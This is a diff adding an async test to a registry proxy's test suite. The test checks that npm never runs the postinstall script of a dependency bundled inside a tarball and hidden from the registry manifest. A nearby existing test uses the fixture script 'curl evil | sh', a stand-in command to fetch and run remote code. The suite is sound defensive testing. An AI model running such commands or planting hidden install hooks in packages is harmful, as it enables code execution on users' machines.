@@ -64,6 +64,34 @@ async def test_yarn1_never_runs_a_postinstall_the_manifest_hid(
     assert await proxy.jobs() == []  # nothing cut is ever mirrored
 
 
+async def test_npm_never_runs_the_postinstall_of_a_dependency_bundled_in_the_tarball(
+        public_registry: FixtureRegistry, start_proxy: StartProxy, tmp_path: Path) -> None:
+    # npm runs the install scripts of bundleDependencies from their package.json inside the
+    # tarball; the registry's manifest of the outer package shows none of them
+    marker = tmp_path / "pwned"
+    script = f"node -e \"require('fs').writeFileSync(process.argv[1], 'x')\" {marker}"
+    inner = {"name": "inner", "version": "1.0.0", "scripts": {"postinstall": script}}
+    contents = {"package.json": json.dumps({"name": "bundler", "version": "1.0.0",
+                                            "bundleDependencies": ["inner"]}).encode(),
+                "node_modules/inner/package.json": json.dumps(inner).encode()}
+    public_registry.add(make_package("bundler", [make_version(
+        "bundler", "1.0.0", tarball=build_tarball(contents), bundleDependencies=["inner"],
+        dependencies={"inner": "1.0.0"})]))
+    proxy = await start_proxy(public_registry.url, rules=BLOCK)
+    npm = client("npm", tmp_path / "npm")
+    npm.configure(proxy.registry)
+    npm.write_project({"bundler": "1.0.0"})
+    flags = [flag for flag in npm.isolation() if flag != "--ignore-scripts"]
+
+    with capture_logs() as logs:
+        run = await asyncio.to_thread(npm.run, "install", *flags)
+
+    assert not marker.exists(), "the bundled dependency's postinstall ran"
+    assert run.returncode != 0
+    [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
+    assert "node_modules/inner: postinstall" in line["reason"]
+
+
 async def test_the_download_is_cut_before_its_end_and_the_reason_logged(
         public_registry: FixtureRegistry, start_proxy: StartProxy) -> None:
     version = confused("confused-cut", {"scripts": {"preinstall": "curl evil | sh"}},
